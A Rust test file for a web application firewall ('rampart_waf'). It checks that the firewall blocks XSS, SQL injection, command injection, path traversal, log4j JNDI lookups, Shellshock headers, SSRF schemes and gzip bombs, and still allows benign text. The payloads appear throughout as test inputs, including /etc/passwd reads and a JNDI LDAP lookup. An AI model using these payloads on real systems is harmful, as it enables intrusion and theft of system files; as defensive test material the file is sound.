        ct,
        &part("base64", "PHNjcmlwdD5hbGVydCgx\r\nKTwvc2NyaXB0Pg=="),
    );
    assert_eq!(class_of(&v), Some(Class::Xss), "{v:?}");
    let v = post(
        &p,
        ct,
        &part(
            "quoted-printable",
            "1=27 union select pass=\r\nword from users--",
        ),
    );
    assert_eq!(class_of(&v), Some(Class::Sqli), "{v:?}");
    // "Thanks for the quick delivery!" in base64
    let v = post(
        &p,
        ct,
        &part("base64", "VGhhbmtzIGZvciB0aGUgcXVpY2sgZGVsaXZlcnkh"),
    );
    assert_eq!(v, Verdict::Allow);
}

#[test]
fn waf_smuggling_transfer_encoding_denied() {
    let p = balanced();
    let h = headers(&[("transfer-encoding", "chunked, identity")]);
    let v = inspect_head(
        &p,
        &RequestHead {
            method: &Method::POST,
            path: "/",
            query: None,
            headers: &h,
            route: "r",
        },
    );
    assert_eq!(class_of(&v), Some(Class::Protocol));
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    #[test]
    fn waf_arbitrary_query_never_panics(q in "[ -~]{0,300}", path in "/[ -~]{0,64}") {
        let _ = get(&balanced(), &path, Some(&q));
    }

    #[test]
    fn waf_arbitrary_body_never_panics(body in proptest::collection::vec(any::<u8>(), 0..1024), kind in 0usize..5) {
        let ct = ["application/json", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/xml", "text/plain"][kind];
        let p = balanced();
        let h = headers(&[("content-type", ct)]);
        let head = RequestHead { method: &Method::POST, path: "/", query: None, headers: &h, route: "r" };
        if let Ok(mut s) = BodyScanner::new(&p, &head) {
            let _ = s.feed(&body);
            let _ = s.finish(&body);
        }
    }
}

#[test]
fn clean_value_memo_never_carries_a_verdict_across_profiles() {
    // `cat` scores below the balanced threshold and above the strict one: the
    // balanced profile remembers it as clean, the strict one must still judge it
    let body = r#"{"q":"cat","note":"cat"}"#;
    let (b, s) = (
        balanced(),
        profile(ProfileConfig {
            mode: rampart_waf::Mode::Strict,
            ..ProfileConfig::default()
        }),
    );
    for _ in 0..3 {
        assert_eq!(post(&b, "application/json", body), Verdict::Allow);
        let v = post(&s, "application/json", body);
        assert!(v.is_deny(), "{v:?}");
        assert_eq!(class_of(&v), Some(Class::Cmdi));
    }
    // a fresh compile of the same configuration (a reload) starts from nothing and
    // judges the same
    assert_eq!(post(&balanced(), "application/json", body), Verdict::Allow);
}

#[test]
fn clean_value_memo_skips_only_exactly_the_same_bytes() {
    let p = balanced();
    // fill the memo with clean values, some close to an attack
    for i in 0..5000 {
        let body = format!(r#"{{"k{i}":"value {i}","q":"O'Brien","id":"scr{i}pt"}}"#);
        assert_eq!(
            post(&p, "application/json", &body),
            Verdict::Allow,
            "{body}"
        );
    }
    for attack in [
        r#"{"q":"O'Brien' or 1=1--"}"#,
        r#"{"id":"x' or 1=1--"}"#,
        r#"{"k1":"<script>alert(1)</script>"}"#,
    ] {
        assert!(post(&p, "application/json", attack).is_deny(), "{attack}");
    }
}

#[test]
fn previous_document_memo_rescans_every_changed_value() {
    // the same order again and again (keys, enum values and a name remembered
    // from the previous document), then the same order with one value at the
    // same place, or one key, turned into an attack: each must still be judged
    let p = balanced();
    let order = |name: &str, key: &str| {
        format!(
            r#"{{"id":"ord_1","customer":{{"name":"{name}","tier":"gold"}},"items":[{{"sku":"TEA-1","qty":2}},{{"sku":"MUG-2","qty":1}}],"{key}":"card"}}"#
        )
    };
    let clean = order("Margaret O'Connell", "payment");
    let clean_passes = || assert_eq!(post(&p, "application/json", &clean), Verdict::Allow);
    for _ in 0..3 {
        clean_passes();
    }
    for attack in [
        order("Margaret O'Connell' or 1=1--", "payment"),
        order("<script>alert(1)</script>", "payment"),
        order(
            "Margaret O'Connell",
            "payment' union select password from users--",
        ),
    ] {
        let v = post(&p, "application/json", &attack);
        assert!(v.is_deny(), "{attack}: {v:?}");
        // and after a denied document, the clean one still passes
        clean_passes();
    }
    // an item removed or added shifts every later item: still judged
    let shifted = r#"{"id":"ord_1","customer":{"name":"x","tier":"gold"},"items":[{"sku":"TEA-1","qty":2}],"payment":"cat /etc/passwd"}"#;
    assert!(post(&p, "application/json", shifted).is_deny());
}

#[test]
fn previous_document_memo_judges_free_text_changed_in_place() {
    // free text longer than the per-value table keeps is remembered from the
    // previous document; the same text with an attack spliced in at the same
    // length, or one byte changed, must still be judged
    let p = balanced();
    let note =
        "Leave with the neighbour at number 16 if nobody is home, or ring the bell twice and wait.";
    let doc = |n: &str| format!(r#"{{"id":"ord_1","notes":"{n}","tier":"gold"}}"#);
    for _ in 0..3 {
        assert_eq!(post(&p, "application/json", &doc(note)), Verdict::Allow);
    }
    let splice = |attack: &str| format!("{attack}{}", &note[attack.len()..]);
    for attack in [
        splice("<script>alert(1)</script>"),
        splice("x' union select password from users--"),
        splice("; cat /etc/passwd #"),
    ] {
        assert_eq!(attack.len(), note.len());
        let v = post(&p, "application/json", &doc(&attack));
        assert!(v.is_deny(), "{attack}: {v:?}");
        assert_eq!(post(&p, "application/json", &doc(note)), Verdict::Allow);
    }
}

#[test]
fn header_and_cookie_memo_never_hides_an_attack() {
    // a client's User-Agent and cookies are remembered once scanned clean;
    // another value, even one byte apart or the same bytes in another header
    // or cookie part (memo.rs tests), is scanned
    let p = balanced();
    let ua = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0";
    let sid = "sid=6f1c2a9e0b7d4c3a8e5f1b2c3d4e5f6a7b8c9d0e1f2a3b4c; theme=dark";
    let head = |ua: &str, cookie: &str, referer: &str| {
        get_with(
            &p,
            "/",
            &[("user-agent", ua), ("cookie", cookie), ("referer", referer)],
        )
    };
    let site = "https://shop.example.org/basket";
    for _ in 0..3 {
        assert_eq!(head(ua, sid, site), Verdict::Allow);
    }
    let jndi = "Mozilla/5.0 ${jndi:ldap://198.51.100.7:1389/a} Gecko/20100101 Firefox/128.0";
    let spliced = format!("{}<script>alert(1)</script>", &ua[..ua.len() - 25]);
    assert_eq!(spliced.len(), ua.len());
    for (u, c, r) in [
        (jndi, sid, site),
        (spliced.as_str(), sid, site),
        (
            ua,
            "sid=x' union select password from users--; theme=dark",
            site,
        ),
        // an attack in another header of the same client
        (ua, sid, "javascript:alert(document.cookie)//"),
    ] {
        assert!(head(u, c, r).is_deny(), "{u} / {c} / {r}");
        assert!(head(u, c, r).is_deny(), "again: {u} / {c} / {r}");
        assert_eq!(head(ua, sid, site), Verdict::Allow);
    }
}

#[test]
fn path_memo_never_hides_an_attack() {
    // the path of a clean request is remembered per profile; any other path,
    // including one that differs by a byte, is scanned
    let p = balanced();
    for _ in 0..3 {
        assert_eq!(get(&p, "/api/orders", None), Verdict::Allow);
    }
    for attack in [
        "/api/../../../etc/passwd",
        "/api/orders/..%2f..%2f..%2fetc/passwd",
    ] {
        assert!(get(&p, attack, None).is_deny(), "{attack}");
        assert!(get(&p, attack, None).is_deny(), "{attack} again");
        assert_eq!(get(&p, "/api/orders", None), Verdict::Allow);
    }
}

fn gzip(b: &[u8]) -> Vec<u8> {
    use std::io::Write;
    let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    e.write_all(b).unwrap();
    e.finish().unwrap()
}

fn zlib(b: &[u8]) -> Vec<u8> {
    use std::io::Write;
    let mut e = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::default());
    e.write_all(b).unwrap();
    e.finish().unwrap()
}

fn raw_deflate(b: &[u8]) -> Vec<u8> {
    use std::io::Write;
    let mut e = flate2::write::DeflateEncoder::new(Vec::new(), flate2::Compression::default());
    e.write_all(b).unwrap();
    e.finish().unwrap()
}

/// A framework that inflates request bodies (Express's body-parser does by
/// default) hands the application the payload, so the WAF reads it inflated.
#[test]
fn waf_reads_compressed_bodies_inflated() {
    use common::post_bytes;
    let p = balanced();
    let form = "a=1&id=1%27%20union%20select%20password%20from%20users--";
    let json = r#"{"comment":"<script>alert(1)</script>"}"#;
    let urlenc = "application/x-www-form-urlencoded";
    for (coding, body) in [
        ("gzip", gzip(form.as_bytes())),
        ("x-gzip", gzip(form.as_bytes())),
        ("deflate", zlib(form.as_bytes())),
        ("deflate", raw_deflate(form.as_bytes())),
        ("identity, gzip", gzip(form.as_bytes())),
    ] {
        let v = post_bytes(&p, urlenc, &body, &[("content-encoding", coding)]);
        assert_eq!(class_of(&v), Some(Class::Sqli), "{coding}: {v:?}");
    }
    let v = post_bytes(
        &p,
        "application/json",
        &gzip(json.as_bytes()),
        &[("content-encoding", "GZIP")],
    );
    assert_eq!(class_of(&v), Some(Class::Xss), "{v:?}");
    // two gzip members, the payload in the second (`gunzip` reads both)
    let mut two = gzip(b"a=1&");
    two.extend(gzip(b"b=1%27%20union%20select%20password%20from%20users--"));
    let v = post_bytes(&p, urlenc, &two, &[("content-encoding", "gzip")]);
    assert_eq!(class_of(&v), Some(Class::Sqli), "{v:?}");
    // ordinary compressed bodies pass
    for (ct, body) in [
        (urlenc, gzip(b"name=Ann&note=Leave+it+with+the+neighbour")),
        ("application/json", gzip(br#"{"order":"ord_1","qty":2}"#)),
    ] {
        let v = post_bytes(&p, ct, &body, &[("content-encoding", "gzip")]);
        assert_eq!(v, Verdict::Allow);
    }
}

/// Codings the WAF cannot read are refused (415) rather than passed unread;
/// data that is not what its coding says is refused (400); and the body limit
/// holds for the inflated bytes (a small body that inflates a thousandfold).
#[test]
fn waf_refuses_compressed_bodies_it_cannot_read_or_that_inflate_past_the_limit() {
    use common::post_bytes;
    let p = balanced();
    let urlenc = "application/x-www-form-urlencoded";
    for coding in [
        "br",
        "zstd",
        "compress",
        "gzip, gzip",
        "gzip, br",
        "x-custom",
    ] {
        let v = post_bytes(&p, urlenc, b"a=1", &[("content-encoding", coding)]);
        let d = v.detection().expect(coding);
        assert_eq!(
            (d.id, d.class, d.status),
            ("content-encoding-unsupported", Class::ContentType, 415),
            "{coding}"
        );
    }
    for (coding, body) in [
        ("gzip", b"a=1".to_vec()),
        ("deflate", b"not deflate data at all".to_vec()),
        ("gzip", gzip(b"a=1")[..10].to_vec()),
    ] {
        let v = post_bytes(&p, urlenc, &body, &[("content-encoding", coding)]);
        let d = v.detection().expect(coding);
        assert_eq!(
            (d.id, d.status),
            ("content-encoding-invalid", 400),
            "{coding}"
        );
    }
    // 2 MiB of zeros compress to about 2 KiB; the default limit is 1 MiB
    let bomb = gzip(&vec![b'a'; 2 << 20]);
    assert!(bomb.len() < 16 << 10);
    let v = post_bytes(&p, "text/plain", &bomb, &[("content-encoding", "gzip")]);
    let d = v.detection().expect("bomb");
    assert_eq!((d.id, d.status), ("body-size", 413));
    // a profile that does not inspect bodies neither decodes nor refuses them
    let cfg: ProfileConfig =
        toml::from_str("inspect = [\"path\", \"query\", \"headers\", \"cookies\"]").unwrap();
    let p = profile(cfg);
    let v = post_bytes(&p, urlenc, b"a=1", &[("content-encoding", "br")]);
    assert_eq!(v, Verdict::Allow);
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(256))]

    /// Arbitrary bytes declared as gzip or deflate, or a compressed body cut
    /// anywhere, get a verdict and never a panic.
    #[test]
    fn waf_coded_bodies_of_any_bytes_get_a_verdict(
        bytes in proptest::collection::vec(any::<u8>(), 0..512),
        cut in any::<proptest::sample::Index>(),
        deflate in any::<bool>(),
    ) {
        let p = balanced();
        let coding = if deflate { "deflate" } else { "gzip" };
        let _ = common::post_bytes(&p, "text/plain", &bytes, &[("content-encoding", coding)]);
        let z = gzip(&bytes);
        let v = common::post_bytes(&p, "text/plain", &z[..cut.index(z.len() + 1)], &[("content-encoding", "gzip")]);
        // (an empty body has nothing to judge)
        if (1..z.len()).contains(&cut.index(z.len() + 1)) {
            prop_assert!(v.is_deny());
        }
    }
}

/// Headers that are not scanned as text (negotiation, credentials, caching,
/// trace ids) are still checked for a log4j lookup or a shellshock function,
/// which no value of theirs holds: scanners spray every header, and CGI
/// exports every header to the environment.
#[test]
fn skipped_headers_are_checked_for_lookups_and_shellshock() {
    let p = balanced();
    let get_with = |name: &'static str, value: &str| {
        common::get_with_headers(&p, &[("user-agent", "Mozilla/5.0"), (name, value)])
    };
    for (name, value, class) in [
        ("accept", "${jndi:ldap://x.example/a}", Class::Java),
        (
            "authorization",
            "Bearer ${${lower:j}ndi:ldap://x.example/a}",
            Class::Java,
        ),
        (
            "x-request-id",
            "%24%7Bjndi%3Aldap%3A%2F%2Fx.example%2Fa%7D",
            Class::Java,
        ),
        (
            "accept-language",
            "() { :; }; /bin/bash -c 'id'",
            Class::Shellshock,
        ),
        (
            "if-none-match",
            "() { :;}; echo; /bin/cat /etc/passwd",
            Class::Shellshock,
        ),
    ] {
        let v = get_with(name, value);
        assert_eq!(class_of(&v), Some(class), "{name}: {v:?}");
    }
    for (name, value) in [
        (
            "accept",
            "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
        ),
        ("accept-language", "en-IE,en;q=0.9,ga;q=0.8"),
        ("authorization", "Basic YWxhZGRpbjpvcGVuc2VzYW1l"),
        (
            "authorization",
            r#"Digest username="Mufasa", realm="http-auth@example.org", uri="/dir/index.html", nonce="7ypf/xlj9XXwfDPEoM4URrv/xwf94BcCAzFZH4GiTo0v""#,
        ),
        ("if-none-match", r#"W/"5e15153d-120f", "xyzzy""#),
        ("cache-control", "max-age=0, private"),
        ("range", "bytes=0-1023"),
    ] {
        assert_eq!(get_with(name, value), Verdict::Allow, "{name}: {value}");
    }
}

/// A comment on a developer forum or a support ticket, as a JSON body.
fn comment(p: &Profile, text: &str) -> Verdict {
    let body = serde_json::json!({ "body": text, "format": "markdown" }).to_string();
    post(p, "application/json", &body)
}

#[test]
fn waf_allows_technical_text_that_names_code_without_running_it() {
    let p = balanced();
    for text in [
        // a Java stack trace: exception classes and frames are named, never used
        "The app crashes with java.lang.NullPointerException at \
         com.example.OrderService.total(OrderService.java:42)",
        "Caused by: org.hibernate.exception.ConstraintViolationException: could not execute \
         statement\n\tat org.springframework.web.servlet.FrameworkServlet.service(FrameworkServlet.java:897)",
        "java.io.IOException: Broken pipe\n\tat java.base/java.lang.Thread.run(Native Method)",
        // Python and C-like conditions are not cmd.exe's `if A==B command`
        "Put the call under if __name__ == \"__main__\":\n    main()",
        "if __name__ == '__main__':\n    app.run(debug=False)",
        "C: if (a == b) return;",
        // an image tag or a port is not a URL
        "image: postgres:16\nenvironment:\n  POSTGRES_DB: shop",
        "Pin redis:7-alpine and mysql:8.0 in the compose file.",
        // an instruction in a sentence that starts with a verb that is also a command
        "Copy it to /home/me/backup please",
        "Move the file to C:\\Users\\me\\Desktop and try again.",
        "Find the log in /var/log/app and send it to us.",
        "Set JAVA_HOME to C:\\Program Files\\Java\\jdk-21 and restart the terminal.",
        "Type the path /usr/bin/python3 in the box.",
        // a terse question is not a probe for a program
        "which date",
        "Which python should I install?",
    ] {
        assert_eq!(comment(&p, text), Verdict::Allow, "{text}");
    }
}

#[test]
fn waf_denies_the_code_that_technical_text_only_names() {
    let p = balanced();
    for (text, class) in [
        (
            "${T(java.lang.Runtime).getRuntime().exec('id')}",
            Class::Java,
        ),
        (
            "<java.lang.ProcessBuilder><command>id</command></java.lang.ProcessBuilder>",
            Class::Java,
        ),
        ("&if 1==1 calc", Class::Cmdi),
        ("if \"%a%\"==\"b\" echo pwned", Class::Cmdi),
        ("if not {%1} == {}", Class::Cmdi),
        ("expect:id", Class::Ssrf),
        ("gopher://127.0.0.1:6379/_info", Class::Ssrf),
        ("type c:\\boot.ini", Class::Lfi),
        ("find / -name passwd", Class::Cmdi),
        (";copy it to c:\\x", Class::Cmdi),
        ("which curl", Class::Cmdi),
        ("whereis nc", Class::Cmdi),
    ] {
        assert_eq!(class_of(&comment(&p, text)), Some(class), "{text}");
    }
}
